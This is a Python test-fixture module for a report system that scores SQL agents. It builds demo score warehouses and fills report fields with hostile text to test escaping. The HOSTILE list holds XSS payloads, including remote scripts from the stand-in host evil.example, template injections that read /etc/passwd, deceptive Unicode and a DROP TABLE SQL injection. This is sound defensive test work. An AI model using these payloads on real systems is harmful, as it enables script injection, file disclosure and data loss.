"""Warehouses that reports are made of in tests: the demo's week, judged by its truth, and texts of people who mean harm."""

from __future__ import annotations

import dataclasses
import datetime as dt
import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import polars as pl

from stef_core.aggregates import agent_daily
from stef_core.canonical import conditions_json
from stef_core.drift import find_alerts
from stef_core.frames import AGENT_ALERTS, QUERY_FINDINGS, QUERY_SCORES, SCORE_CHANGES, compact_json, frame_of
from stef_core.records import Filter
from stef_core.scoring import compose_frame
from tasks.demo_data import demo_frames
from tasks.report import ReportData
from tasks.warehouse import connect

NOW = dt.datetime(2026, 3, 9, 6, 30, tzinfo=dt.UTC)
LAST = dt.date(2026, 3, 8)
MODELLED = "fleet-bot"  # the agent that a model judges
CHANGED = 14  # answers that scoring again moved
CODES = {
    "dropped_date_filter": "missing_filter",
    "or_for_and": "wrong_filter_operator",
    "no_sql": "no_sql",
    "prose_refusal": "not_a_query",
}

# what a page could obey: markup, events, addresses, templates, styles, and characters that are not seen
HOSTILE = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "</pre></code><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(3)>",
    "<svg/onload=alert(4)>",
    "<svg><script>alert(5)</script></svg>",
    "<math><mtext></mtext><script>alert(6)</script></math>",
    "<body onload=alert(7)>",
    "<iframe src='https://evil.example/'></iframe>",
    '<iframe srcdoc="&lt;script&gt;alert(8)&lt;/script&gt;"></iframe>',
    "<object data='data:text/html,<script>alert(9)</script>'></object>",
    "<embed src=https://evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "</style><style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=\"background:url('https://evil.example/x.png')\">x</div>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<form action=https://evil.example/><input name=q autofocus onfocus=alert(10)></form>",
    "<a href='javascript:alert(11)'>How many orders?</a>",
    "<details open ontoggle=alert(12)><summary>x</summary></details>",
    "<video><source onerror=alert(13)></video>",
    "\" onmouseover=\"alert(14)\" x=\"",
    "' onfocus='alert(15)' autofocus='",
    "\"><img src=x onerror=alert(16)>",
    "<!-- --><script>alert(17)</script><!--",
    "<![CDATA[<script>alert(18)</script>]]>",
    "&lt;script&gt;alert(19)&lt;/script&gt; &#60;b&#62; &amp;amp;",
    "{{7*7}} {{ config.items() }} {{ ''.__class__.__mro__ }}",
    "{% raw %}{% endraw %}{% include '/etc/passwd' %}{# #}",
    "${7*7} <%= 7*7 %> #{7*7} [[7*7]] {{constructor.constructor('alert(20)')()}}",
    "\u202etxt.lqs\u202c SELECT 1 \u2066\u2067drow\u2069\u2069",
    "\u200f\u200e\u061c right-to-left \u05d0\u05d1\u05d2 \u0627\u0644\u0639",
    "\x1b[2J\x1b[31mred\x07\x08\x00\x7f",
    "line\u2028separator\u2029paragraph\u0085next",
    "zero\u200bwidth\ufeff and \U000e0041 tags",
    "＜script＞alert(21)＜/script＞ +ADw-script+AD4-alert(22)+ADw-/script+AD4-",
    "<mark>marked</mark></mark></bdi></h3></article></section></main>",
    "*/ alert(23) /* \\u003cscript\\u003e \\x3cscript\\x3e ]}]} \\",
    "'; DROP TABLE query_scores; -- <noscript><p title=\"</noscript><img src=x onerror=alert(24)>\">",
)  # fmt: skip


class Page(HTMLParser):
    """Elements, attributes and text of a page, as a browser would see them."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.text = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        while self.open and self.open.pop() != tag:
            pass
        if tag not in ("bdi", "sub", "code", "mark"):
            self.text += " "

    def handle_data(self, data: str) -> None:
        if not {"style", "script"} & set(self.open):
            self.text += data

    def named(self, tag: str) -> list[dict[str, str | None]]:
        return [attrs for name, attrs in self.elements if name == tag]


def words_of(page: str) -> str:
    """The text of a page in one line, its spaces plain."""
    return re.sub(r"[\s\u202f\u00a0]+", " ", Page(page).text).replace(" :", ":")


def demo_week() -> tuple[pl.DataFrame, pl.DataFrame]:
    """The demo's log and truth, with a second application for its first agent."""
    log, truth = demo_frames()
    is_outlet = (pl.col("agent_id") == "shop-analyst") & (pl.int_range(pl.len()) % 3 == 0)
    return log.with_columns(app_id=pl.when(is_outlet).then(pl.lit("outlet")).otherwise("app_id")), truth


def scores_of(log: pl.DataFrame, truth: pl.DataFrame) -> tuple[pl.DataFrame, pl.DataFrame]:
    """A week of scores and findings as a perfect judge would give them: the report does not care who judged."""
    rows = log.join(truth, on="query_id", validate="1:1")
    year = conditions_json([Filter(column="year", value=2025)])
    alignment = {"matched": [], "missing": year, "extra": [], "benign": []}
    scores, findings = [], []
    for n, row in enumerate(rows.iter_rows(named=True)):
        right, unscored = row["right"], n % 61 == 0
        rejected = row["fault"] in ("no_sql", "prose_refusal")
        key = {name: row[name] for name in ("dt", "query_id", "agent_id", "agent_version", "app_id")}
        status = None if rejected else "fully_applied" if right else "partially_applied"
        is_modelled = row["agent_id"] == MODELLED
        is_drop = not right and bool(row["enriched_question"]) and n % 2 == 0
        scores.append(
            {
                **{name: row.get(name) for name in QUERY_SCORES},
                "status": "unscored" if unscored else "scored",
                "reason": "sql_unparseable" if unscored else None,
                "filter_status": None if unscored else status,
                "enrichment_status": "drops" if is_drop else "faithful" if row["enriched_question"] else "absent",
                "delta_lenient": 0,
                "verdict": None if unscored else "correct" if right else "incorrect",
                "confidence": None if unscored else 0.9 if n % 3 else 0.7,
                "verdict_reasons": json.dumps([] if right else ["A condition is missing."]),
                "alignment": None if right or rejected else compact_json(alignment),
                "p_right": None if unscored else 0.9 if right else 0.15,
                "judge": "openai" if is_modelled else "symbolic",
                "llm_calls": 2 if is_modelled else 0,
                "tokens_in": 1_400 if is_modelled else 0,
                "tokens_out": 150 if is_modelled else 0,
                "cost": 0.0125 if is_modelled else 0.0,
                "run_id": "r1",
            }
        )
        if not right:
            code = CODES.get(row["fault"], "wrong_filter_value")
            text = "Nothing in the SQL holds year = 2025." if code == "missing_filter" else f"The SQL has a {row['fault']}."
            table = re.search(r"\bFROM (\w+)", row["generated_sql"] or "")
            parts = {"question_part": row["user_question"].rstrip("?").split()[-1], "sql_part": table[1] if table else None}
            found = {"ordinal": 0, "code": code, "dimension": "filters", "severity": "critical", "stage": "generation"}
            findings.append({**dict.fromkeys(QUERY_FINDINGS), **key, **found, **parts, "message": text, "run_id": "r1"})
        if is_drop:
            found = {"ordinal": 1, "code": "enrichment_drops", "severity": "major", "stage": "enrichment"}
            text = "The reformulation leaves out the year."
            findings.append({**dict.fromkeys(QUERY_FINDINGS), **key, **found, "message": text, "run_id": "r1"})
    frame = compose_frame(frame_of(scores, QUERY_SCORES)).select(QUERY_SCORES.names()).cast(QUERY_SCORES)
    return frame, frame_of(findings, QUERY_FINDINGS)


def changes_of(scores: pl.DataFrame) -> pl.DataFrame:
    """What new rules moved on a day: most answers lower, one unscored before."""
    rows = []
    for n, row in enumerate(scores.filter(pl.col("status") == "scored").sort("query_id").head(CHANGED).iter_rows(named=True)):
        was = {"old_phi": None, "old_status": "unscored"} if n == 0 else {"old_phi": min(100.0, row["phi"] + 3 * n)}
        now = {"new_phi": row["phi"], "new_band": row["band"], "new_status": "scored", "changed": '["rules"]'}
        key = {"run_id": "r1", "dt": row["dt"], "query_id": row["query_id"], "agent_id": row["agent_id"]}
        rows.append({**dict.fromkeys(SCORE_CHANGES), "old_status": "scored", "old_band": "good", **was, **now, **key})
    return frame_of(rows, SCORE_CHANGES)


def filled(url: str, log: pl.DataFrame, truth: pl.DataFrame) -> str:
    """The warehouse of this URL, with these rows scored and published day by day; its URL."""
    scores, findings = scores_of(log, truth)
    raised = AGENT_ALERTS.to_frame()
    days = sorted(set(scores["dt"]))
    with connect(url) as warehouse:
        warehouse.migrate()
        for day in days:
            today = scores.filter(pl.col("dt") == day)
            alerts = find_alerts(scores.filter(pl.col("dt") <= day), day, findings=findings, recent_alerts=raised)
            alerts = alerts.with_columns(run_id=pl.lit("r1")).cast(AGENT_ALERTS)
            raised = pl.concat([raised, alerts])
            found = findings.filter(pl.col("dt") == day)
            tables = {"query_scores": today, "query_findings": found, "agent_daily": agent_daily(today, found)}
            tables["agent_alerts"] = alerts
            if day == days[-1]:
                tables["score_changes"] = changes_of(today)
            warehouse.stage("r1", day, tables)
            warehouse.publish("r1", day, list(tables))
            warehouse.record_run(run_row(day, rows_in=today.height))
    return url


def run_row(day: dt.date, **values: Any) -> dict[str, Any]:
    gates = [{"gate": "input", "passed": True, "expectations": 7, "failures": []}]
    row = {"run_id": f"run-{day}", "kind": "score", "dt": day, "outcome": "published", "judge": "symbolic"}
    return {**row, "started_at": NOW, "rows_scored": 100, "rows_unscored": 3, "gates": json.dumps(gates), **values}


def unscored_agent(scores: pl.DataFrame, agent: str = "fleet-bot") -> dict[str, pl.DataFrame]:
    """The day with every answer of one agent unscored."""
    lost = pl.col("agent_id") == agent
    nulls = ("filter_status", "verdict", "confidence", "phi", "band", "p_right", "base", "gamma_factor")
    scores = scores.with_columns(
        *(pl.when(~lost).then(pl.col(name)).alias(name) for name in nulls),
        status=pl.when(lost).then(pl.lit("unscored")).otherwise("status"),
        reason=pl.when(lost).then(pl.lit("judge_unavailable")).otherwise("reason"),
        run_id=pl.lit("r2"),
    )
    return {"query_scores": scores, "agent_daily": agent_daily(scores, QUERY_FINDINGS.to_frame())}


def evil_week(text: str) -> tuple[pl.DataFrame, pl.DataFrame]:
    """Two days of the demo with this text in every field that comes from strangers."""
    log, truth = demo_frames()
    log = log.filter(pl.col("asked_at").dt.date() <= dt.date(2026, 3, 3))
    strange = pl.lit(text)
    columns = ("agent_id", "agent_version", "app_id", "user_question", "enriched_question", "generated_sql", "dialect")
    log = log.with_columns(*(strange.alias(name) for name in columns), query_id=pl.format("{}{}", strange, "query_id"))
    return log, truth.with_columns(query_id=pl.format("{}{}", strange, "query_id"))


def with_more_answers(data: ReportData, wanted: int) -> ReportData:
    """The report's data with copies of its first answer among the worst of agents, until there are that many."""
    keys = [(dt.date(2026, 3, 2), f"copy {n}") for n in range(wanted - data.answers.height)]
    frames = []
    for frame in (data.answers, data.answer_findings):
        day, query_id = data.worst[0]
        first = frame.filter((pl.col("dt") == day) & (pl.col("query_id") == query_id))
        copies = [first.with_columns(dt=pl.lit(day), query_id=pl.lit(query_id)) for day, query_id in keys]
        frames.append(pl.concat([frame, *copies]))
    return dataclasses.replace(
        data, answers=frames[0], answer_findings=frames[1], worst_of_agents=(*data.worst_of_agents, *keys)
    )


def hostile_data(data: ReportData, texts: tuple[str, ...]) -> ReportData:
    """The report's data with a text in the question, reformulation, SQL and findings of each answer."""
    fitting = [texts[n % len(texts)] for n in range(data.answers.height)]
    answers = data.answers.with_columns(
        *(pl.Series(name, fitting) for name in ("user_question", "enriched_question", "generated_sql")),
        verdict_reasons=pl.Series([json.dumps([text]) for text in fitting]),
    )
    by_key = dict(zip(answers.select("dt", "query_id").rows(), fitting, strict=True))
    told = [by_key[key] for key in data.answer_findings.select("dt", "query_id").rows()]
    findings = data.answer_findings.with_columns(
        *(pl.Series(name, told) for name in ("question_part", "sql_part", "message")),
    )
    return dataclasses.replace(data, answers=answers, answer_findings=findings)


def duckdb_url(path: Path) -> str:
    return f"duckdb:///{path}"
